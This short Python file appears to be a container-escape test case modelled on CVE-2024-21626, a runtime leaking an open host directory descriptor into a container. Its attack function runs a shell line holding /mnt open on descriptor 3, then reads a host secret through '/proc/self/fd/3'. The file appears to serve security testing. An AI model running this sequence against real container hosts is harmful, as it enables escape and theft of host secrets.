"""A low-level runtime that leaves a descriptor of a directory of the host open in the container."""

from bypass import attested

SOURCE = "CVE-2024-21626: what it leaked"
WAY = "race"
STOPPED = attested("descriptor")


def attack(t):
    t.before_low("exec 3< /mnt; LISTEN_PID=$$; LISTEN_FDS=1; export LISTEN_PID LISTEN_FDS")
    return t.leaked(t.run("cat /proc/self/fd/3/host/secret"))
